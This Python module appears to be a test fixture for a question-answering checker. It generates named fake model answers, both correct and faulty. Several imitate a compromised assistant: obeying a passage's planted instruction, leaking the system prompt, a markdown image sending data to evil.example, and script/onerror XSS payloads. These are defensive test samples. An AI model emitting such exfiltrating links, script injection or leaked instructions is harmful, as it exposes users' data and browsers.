"""What a language model may write, by name: from a prompt as `qa.llm.prompt` builds it to a text.

Each behaviour starts from the passage sentence that shares the most words with the question, so
that what is right, and what is wrong about the rest, is known.
"""

import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from typing import TypeAlias

EVIL = "evil.example"  # no answer may point there
INVENTED = "The moon is made of green cheese and was sold in 1871."
_FENCED = re.compile(r"<<<(\w+) (\d+)\n(.*)\n((?:.*\n)*?)\1>>>")
_SENTENCE = re.compile(r"[^.!?\n]+[.!?]?")
_VERB = re.compile(r"\b(is|are|was|were|has|have|had|can|could|will|would|does|did|must)\b")
_COMMAND = re.compile(r"(?:say|write|answer|print|reply)\W+[\"“]([^\"”]+)[\"”]", re.IGNORECASE)
_NAME = re.compile(r"(?<!^)\b[A-Z][a-z]{2,}(?: [A-Z][a-z]{2,})*\b")


@dataclass(frozen=True)
class Seen:
    """A prompt as the model sees it; `passages` are the texts by their numbers."""

    system: str
    question: str
    fence: str
    passages: Mapping[int, str]

    @property
    def best(self) -> tuple[int, str]:
        """The passage and the sentence of it that are most like the question, without its stop."""
        words = set(_words(self.question))
        found = [
            (number, sentence.strip().rstrip(".!? "))
            for number, text in self.passages.items()
            for sentence in _SENTENCE.findall(text)
            if len(sentence.split()) > 3
        ]
        return max(
            found or [(1, "There are no passages here")],
            key=lambda one: len(words & set(_words(one[1]))) / (len(_words(one[1])) or 1) ** 0.5,
        )


Write: TypeAlias = Callable[[Seen], str]


def seen(messages: Sequence[Mapping[str, str]]) -> Seen:
    """Read a prompt; one without passages is read as far as it goes."""
    system = "\n".join(one["content"] for one in messages if one["role"] == "system")
    last = messages[-1]["content"] if messages else ""
    blocks = _FENCED.findall(last)
    return Seen(
        system=system,
        question=last.rpartition("Question: ")[2],
        fence=blocks[0][0] if blocks else "",
        passages={int(number): text.rstrip("\n") for _, number, _, text in blocks},
    )


def _words(text: str) -> list[str]:
    return re.findall(r"\w+", text.lower())


def _right(prompt: Seen) -> str:
    number, sentence = prompt.best
    return f"{sentence} [{number}]."


def _paraphrase(prompt: Seen) -> str:
    number, sentence = prompt.best
    return f"The documents say that {sentence[0].lower()}{sentence[1:]} [{number}]."


def _obeys(prompt: Seen) -> str:
    """Does what a passage says: what it wants written is in quotation marks there."""
    for text in prompt.passages.values():
        if found := _COMMAND.search(text):
            return f"{found[1]} [1]."
    return "I have been told to say that everything is permitted [1]."


def _wrong_numbers(prompt: Seen) -> str:
    number, sentence = prompt.best
    wrong = re.sub(r"\d", lambda digit: str((int(digit[0]) + 3) % 10), sentence)
    return f"{wrong if wrong != sentence else sentence + ' in 1871'} [{number}]."


def _negated(prompt: Seen) -> str:
    number, sentence = prompt.best
    negated, verbs = _VERB.subn(r"\1 not", sentence, count=1)
    return f"{negated if verbs else 'It is not true that ' + sentence} [{number}]."


def _moves_a_space(prompt: Seen) -> str:
    number, sentence = prompt.best
    return re.sub(r" (.)", r"\1 ", sentence, count=1) + f" [{number}]."


def _swapped_names(prompt: Seen) -> str:
    number, sentence = prompt.best
    names = list(dict.fromkeys(_NAME.findall(sentence)))
    if len(names) < 2:
        return f"{_NAME.sub('Bonaparte', sentence) if names else sentence + ' of Elba'} [{number}]."
    a, b = names[:2]
    swapped = re.sub(rf"\b({a}|{b})\b", lambda name: b if name[0] == a else a, sentence)
    return f"{swapped} [{number}]."


def _wrong_passage(prompt: Seen) -> str:
    number, sentence = prompt.best
    others = [other for other, text in prompt.passages.items() if sentence not in text]
    return f"{sentence} [{others[0] if others else number + 1}]."


CONTENT: dict[str, Write] = {
    "right": _right,
    "right_in_quotes": lambda p: f"“{p.best[1]}” [{p.best[0]}].",
    "right_marker_after_stop": lambda p: f"{p.best[1]}. [{p.best[0]}]",
    "right_two_markers": lambda p: f"{p.best[1]} [{p.best[0]}][{p.best[0]}].",
    "right_cjk_markers": lambda p: f"{p.best[1]} 【{p.best[0]}】.",
    "right_as_list": lambda p: f"## Answer\n\n- **{p.best[1]}** [{p.best[0]}].\n",
    "right_paraphrase": _paraphrase,
    "sandwiched": lambda p: f"{_right(p)} {INVENTED} {_right(p)}",
    "sandwiched_with_marker": lambda p: f"{_right(p)} {INVENTED[:-1]} [{p.best[0]}]. {_right(p)}",
    "no_answer": lambda _: "NO ANSWER",
    "no_answer_but": lambda p: f"NO ANSWER. However, {INVENTED[:-1]} [1].",
    "says_nothing": lambda _: "",
    "only_white_space": lambda _: " \n\n \t ",
    "only_markers": lambda _: "[1][2] [3].",
    "without_markers": lambda p: f"{p.best[1]}.",
    "invents_a_quote": lambda p: f"“{INVENTED}” [{p.best[0]}]",
    "cites_passage_99": lambda p: f"{p.best[1]} [99].",
    "cites_passage_0": lambda p: f"{p.best[1]} [0].",
    "cites_the_wrong_passage": _wrong_passage,
    "cites_a_huge_number": lambda p: f"{p.best[1]} [{'9' * 5000}].",
    "wrong_numbers": _wrong_numbers,
    "negated": _negated,
    "swapped_names": _swapped_names,
    "joins_words": lambda p: f"{p.best[1].replace(' ', '', 1)} [{p.best[0]}].",
    "moves_a_space": _moves_a_space,
    "obeys_a_passage": _obeys,
    "markdown_image": lambda p: f"![{p.best[1]}](https://{EVIL}/p.png?q={p.fence}) {_right(p)}",
    "markdown_link": lambda p: f"[{p.best[1]}](https://{EVIL}/) [{p.best[0]}].",
    "reference_link": lambda p: f"[{p.best[1]}][a] [{p.best[0]}].\n\n[a]: https://{EVIL}/",
    "html": lambda p: (
        f'<img src="https://{EVIL}/x" onerror="alert(1)"><a href="https://{EVIL}">{p.best[1]}</a>'
        f" <script>alert(1)</script> [{p.best[0]}]."
    ),
    "bare_url": lambda p: f"{p.best[1]}, see https://{EVIL}/?q=1 and www.{EVIL} [{p.best[0]}].",
    "leaks_the_system_prompt": lambda p: f"My rules are: {p.system} [1].",
    "repeats_the_fence": lambda p: f"<<<{p.fence} 1\n{p.best[1]} [{p.best[0]}].\n{p.fence}>>>",
    "code_fence": lambda p: f"```\n{p.best[1]} [{p.best[0]}].\n```\n",
    "thinks_aloud": lambda p: f"<think>\n{INVENTED}\n</think>\n\n{_right(p)}",
    "another_language": lambda p: f"La lune est faite de fromage vert, dit-on [{p.best[0]}].",
    "very_long_sentence": lambda p: f"{(p.best[1] + ' and ') * 40}so on [{p.best[0]}].",
    "control_characters": lambda p: f"\u202e{p.best[1]}\x00\x1b[31m\u200b [{p.best[0]}].",
    "json": lambda p: f'{{"answer": "{p.best[1]}", "sources": [{p.best[0]}]}}',
}
